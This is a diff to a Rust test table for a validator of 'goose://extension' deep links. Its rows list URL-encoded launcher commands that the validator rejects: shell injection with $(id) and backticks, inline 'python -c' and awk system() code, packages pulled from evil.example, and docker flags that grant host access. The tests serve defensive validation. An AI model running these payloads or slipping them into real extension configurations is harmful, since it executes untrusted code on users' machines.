@@ -33,6 +33,9 @@ fn with(mut v: Value, patch: Value) -> Value {
 
 const ALLOWED_CMDS: &str = "allowed-commands rule";
 const INLINE: &str = "no-inline-code rule";
+const GRAMMAR: &str = "launcher grammar rule";
+const NESTED: &str = "nested-launcher rule";
+const KNOWN: &str = "known-programs rule";
 const SHELL: &str = "no-shell-syntax rule";
 const PACKAGE: &str = "package-spec rule";
 const CONTAINER: &str = "container-isolation rule";
@@ -157,17 +160,17 @@ fn table() -> Vec<(&'static str, Want)> {
         ("goose://extension?cmd=npx.cmd&arg=-c&arg=id&name=a", Policy(INLINE)),
         ("goose://extension?cmd=npx&arg=--call&arg=id&name=a", Policy(INLINE)),
         ("goose://extension?cmd=npx&arg=--call%3Did&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=npx&arg=-yc&arg=id&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=npx&arg=--node-options%3D--require%3D%2Ftmp%2Fx.js&arg=pkg&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=uvx&arg=python&arg=-c&arg=import%20os&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=docker&arg=run&arg=alpine&arg=sh&arg=-c&arg=id&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=docker&arg=run&arg=--entrypoint%3D%2Fbin%2Fbash&arg=alpine&arg=-lc&arg=id&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=jbang&arg=--code&arg=class%20A%7B%7D&name=a", Policy(INLINE)),
+        ("goose://extension?cmd=npx&arg=-yc&arg=id&name=a", Policy(GRAMMAR)),
+        ("goose://extension?cmd=npx&arg=--node-options%3D--require%3D%2Ftmp%2Fx.js&arg=pkg&name=a", Policy(GRAMMAR)),
+        ("goose://extension?cmd=uvx&arg=python&arg=-c&arg=import%20os&name=a", Policy(NESTED)),
+        ("goose://extension?cmd=docker&arg=run&arg=alpine&arg=sh&arg=-c&arg=id&name=a", Policy(KNOWN)),
+        ("goose://extension?cmd=docker&arg=run&arg=--entrypoint%3D%2Fbin%2Fbash&arg=alpine&arg=-lc&arg=id&name=a", Policy(CONTAINER)),
+        ("goose://extension?cmd=jbang&arg=--code&arg=class%20A%7B%7D&name=a", Policy(GRAMMAR)),
         ("goose://extension?cmd=npx&arg=pkg&arg=%24(id)&name=a", Policy(SHELL)),
         ("goose://extension?cmd=uvx&arg=pkg%3Bid&name=a", Policy(SHELL)),
         ("goose://extension?cmd=uvx&arg=a%20%60id%60&name=a", Policy(SHELL)),
         ("goose://extension?cmd=uvx&arg=a%7Cb&name=a", Policy(SHELL)),
-        ("goose://extension?cmd=gosling&arg=agent&arg=--host&arg=0.0.0.0&name=a", Policy(INLINE)),
+        ("goose://extension?cmd=gosling&arg=agent&arg=--host&arg=0.0.0.0&name=a", Policy("gosling grammar rule")),
         ("goose://extension?cmd=gosling&arg=mcp&arg=developer&name=Dev", Config(stdio("Dev", "gosling", &["mcp", "developer"]))),
         ("goose://extension?cmd=bash&arg=-c&arg=id&name=a", Policy(ALLOWED_CMDS)),
         ("goose://extension?cmd=python3&arg=server.py&name=a", Policy(ALLOWED_CMDS)),
@@ -176,11 +179,11 @@ fn table() -> Vec<(&'static str, Want)> {
         ("goose://extension?cmd=.%2Fnpx&name=a", Policy("paths are not allowed")),
         ("goose://extension?cmd=NPX&name=a", Policy(ALLOWED_CMDS)),
         // --- launchers run registry packages only ---
-        ("goose://extension?cmd=npx&arg=awk&arg=BEGIN%7Bsystem(%22id%22)%7D&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=npx&arg=node&arg=--import%3Ddata%3Atext%2Fjavascript%2C1&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=uvx&arg=ipython&arg=-c&arg=1&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=uvx&arg=xonsh&arg=-c&arg=id&name=a", Policy(INLINE)),
-        ("goose://extension?cmd=uvx&arg=python&arg=-cimport%20os&name=a", Policy(INLINE)),
+        ("goose://extension?cmd=npx&arg=awk&arg=BEGIN%7Bsystem(%22id%22)%7D&name=a", Policy(NESTED)),
+        ("goose://extension?cmd=npx&arg=node&arg=--import%3Ddata%3Atext%2Fjavascript%2C1&name=a", Policy(NESTED)),
+        ("goose://extension?cmd=uvx&arg=ipython&arg=-c&arg=1&name=a", Policy(NESTED)),
+        ("goose://extension?cmd=uvx&arg=xonsh&arg=-c&arg=id&name=a", Policy(NESTED)),
+        ("goose://extension?cmd=uvx&arg=python&arg=-cimport%20os&name=a", Policy(NESTED)),
         ("goose://extension?cmd=npx&arg=.%2Fevil.js&name=a", Policy(PACKAGE)),
         ("goose://extension?cmd=npx&arg=https%3A%2F%2Fevil.example%2Fx.tgz&name=a", Policy(PACKAGE)),
         ("goose://extension?cmd=uvx&arg=--from&arg=git%2Bhttps%3A%2F%2Fevil.example%2Fx&arg=x&name=a", Policy(PACKAGE)),
@@ -191,13 +194,14 @@ fn table() -> Vec<(&'static str, Want)> {
         ("goose://extension?cmd=docker&arg=run&arg=--network&arg=host&arg=alpine&name=a", Policy(CONTAINER)),
         ("goose://extension?cmd=docker&arg=run&arg=--cap-add%3DSYS_ADMIN&arg=alpine&name=a", Policy(CONTAINER)),
         ("goose://extension?cmd=docker&arg=run&arg=--device&arg=%2Fdev%2Fsda&arg=alpine&name=a", Policy(CONTAINER)),
+        // A launcher never runs an interpreter, even one given a module (issue 27, finding 1).
+        ("goose://extension?cmd=uvx&arg=--from&arg=mcp-foo&arg=python&arg=-m&arg=mcp_foo&name=Mod", Policy(NESTED)),
+        ("goose://extension?cmd=npx&arg=-y&arg=zx&arg=http%3A%2F%2F127.0.0.1%3A1%2Fx.mjs&name=a", Policy(NESTED)),
+        // Mounts only inside the working dir, written relative to it.
+        ("goose://extension?cmd=docker&arg=run&arg=-v&arg=%2Ftmp%2Fdata%3A%2Fdata&arg=img&name=a", Policy(CONTAINER)),
         (
-            "goose://extension?cmd=uvx&arg=--from&arg=mcp-foo&arg=python&arg=-m&arg=mcp_foo&name=Mod",
-            Config(stdio("Mod", "uvx", &["--from", "mcp-foo", "python", "-m", "mcp_foo"])),
-        ),
-        (
-            "goose://extension?cmd=docker&arg=run&arg=-i&arg=--rm&arg=-v&arg=%2Ftmp%2Fdata%3A%2Fdata&arg=img&name=Vol",
-            Config(stdio("Vol", "docker", &["run", "-i", "--rm", "-v", "/tmp/data:/data", "img"])),
+            "goose://extension?cmd=docker&arg=run&arg=-i&arg=--rm&arg=-v&arg=.%2Fdata%3A%2Fdata&arg=img&name=Vol",
+            Config(stdio("Vol", "docker", &["run", "-i", "--rm", "-v", "./data:/data", "img"])),
         ),
     ]
 }
